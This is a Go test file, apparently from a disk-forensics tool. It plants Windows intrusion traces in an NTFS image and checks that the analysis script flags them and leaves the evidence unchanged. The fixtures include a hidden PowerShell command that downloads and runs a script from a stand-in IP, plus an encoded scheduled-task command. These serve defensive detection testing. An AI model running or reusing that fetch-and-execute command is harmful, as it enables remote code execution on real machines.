package ssmdocuments

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/casefile-forensics/casefile/internal/testenv"
)

// plantWindows lays out the places of a Windows system disk that the disk
// pass copies out, with the traces of an intrusion: a Run key and a
// scheduled task that start a downloaded script, a Startup item, a dropper
// in a Temp folder and PowerShell history. It returns the staged files.
func plantWindows(t *testing.T, root string) map[string][]byte {
	t.Helper()
	const payload = `powershell.exe -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`
	files := map[string][]byte{
		"Windows/System32/config/SOFTWARE":           runKeyHive(payload),
		"Windows/System32/config/SYSTEM":             buildHive(&hiveKey{name: "ROOT", subkeys: []*hiveKey{{name: "Select"}}}),
		"Users/bob/NTUSER.DAT":                       buildHive(&hiveKey{name: "ROOT", subkeys: []*hiveKey{{name: "Software"}}}),
		"Windows/System32/winevt/Logs/Security.evtx": append([]byte("ElfFile\x00"), make([]byte, 4088)...),
		"Windows/System32/Tasks/OneDrive Updater": []byte(`<?xml version="1.0"?><Task><Actions><Exec>` +
			`<Command>powershell.exe</Command><Arguments>-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA</Arguments></Exec></Actions></Task>`),
		"ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/updater.lnk":                     []byte("L\x00\x00\x00 shortcut to C:\\Users\\Public\\upd.exe"),
		"Users/bob/AppData/Local/Temp/dropper.exe":                                                  []byte("MZ\x90\x00 casefile test payload"),
		"Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt": []byte("Get-Process\n" + payload + "\n"),
		"Users/bob/Documents/notes.txt":                                                             []byte("quarterly numbers\n"),
	}
	for p, content := range files {
		writeFile(t, filepath.Join(root, p), string(content), 0o644)
	}
	return files
}

func TestDiskForensicsLocalNTFS(t *testing.T) {
	requireRoot(t)
	requireTools(t, "mkntfs", "ntfs-3g", "losetup", "blockdev", "blkid", "fls", "mactime", "icat", "jq", "python3", "hivexget")
	dir := t.TempDir()
	image := filepath.Join(dir, "windows.img")
	mustRun(t, "truncate", "-s", "64M", image)
	mustRun(t, "mkntfs", "-q", "-F", "-f", "-L", "Windows", image)
	mnt := filepath.Join(dir, "build-mnt")
	require.NoError(t, os.MkdirAll(mnt, 0o755))
	if r := run(t, nil, "ntfs-3g", image, mnt); r.code != 0 {
		testenv.Missing(t, "cannot mount NTFS here to build the image: %s", r.stderr)
	}
	planted := plantWindows(t, mnt)
	mustRun(t, "umount", mnt)
	before := sha256File(t, image)
	out := filepath.Join(dir, "out")

	r := run(t, nil, "bash", script(t, "disk-forensics.sh"), "--local", "--device", image,
		"--evidence-id", evidenceVolume, "--output-dir", out, "--forensic-id", "case-ntfs")

	require.Equal(t, 0, r.code, "exit code; stderr:\n%s", r.stderr)
	assert.Equal(t, before, sha256File(t, image), "the evidence image is unchanged")
	assertNothingLeft(t, image)
	var res diskResults
	readJSON(t, filepath.Join(out, ResultsFileName), &res)
	assert.Equal(t, "SUCCEEDED", res.Status)
	require.Len(t, res.Devices, 1)
	require.Len(t, res.Devices[0].Partitions, 1)
	fs := res.Devices[0].Partitions[0]
	require.NotNil(t, fs.Filesystem)
	assert.Equal(t, "ntfs", *fs.Filesystem)
	assert.True(t, fs.Mounted, "mounted read-only")
	require.NotNil(t, fs.MountOptions)
	assert.Contains(t, *fs.MountOptions, "ro")

	findings := res.findingPaths()
	assert.Contains(t, findings["WINDOWS_RUN_KEY"], "/Windows/System32/config/SOFTWARE", "the Run key is read from the copied hive")
	assert.Contains(t, findings["WINDOWS_TASK_SUSPICIOUS"], "/Windows/System32/Tasks/OneDrive_Updater")
	assert.Contains(t, findings["WINDOWS_STARTUP_ITEM"], "/ProgramData/Microsoft/Windows/Start_Menu/Programs/Startup/updater.lnk")
	assert.Contains(t, findings["TEMP_EXECUTABLE"], "/Users/bob/AppData/Local/Temp/dropper.exe")
	assert.Contains(t, findings["HISTORY_SUSPICIOUS"], "/Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt")
	assert.NotContains(t, findings["TEMP_EXECUTABLE"], "/Users/bob/Documents/notes.txt")
	var runKey []string
	for _, f := range res.Findings {
		if f.ID == "WINDOWS_RUN_KEY" {
			assert.Equal(t, "high", f.Severity, "a Run key that downloads a script")
			runKey = append(runKey, f.Path)
		}
	}
	assert.Len(t, runKey, 1, "one Run key finding")

	part := filepath.Join(out, evidenceVolume, "disk", "artifacts")
	for _, p := range []string{"Windows/System32/config/SOFTWARE", "Windows/System32/config/SYSTEM", "Users/bob/NTUSER.DAT",
		"Windows/System32/winevt/Logs/Security.evtx"} {
		got, err := os.ReadFile(filepath.Join(part, p))
		if assert.NoError(t, err, "%s copied out", p) {
			assert.Equal(t, planted[p], got, "%s copied whole", p)
		}
	}
	m := assertManifest(t, out)
	hive, ok := manifestEntry(m, evidenceVolume+"/disk/artifacts/Windows/System32/config/SOFTWARE")
	require.True(t, ok, "the SOFTWARE hive is in the manifest")
	assert.Equal(t, "icat", hive.Tool, "copied from the raw file system")
	assert.Equal(t, "/Windows/System32/config/SOFTWARE", hive.Source)
}
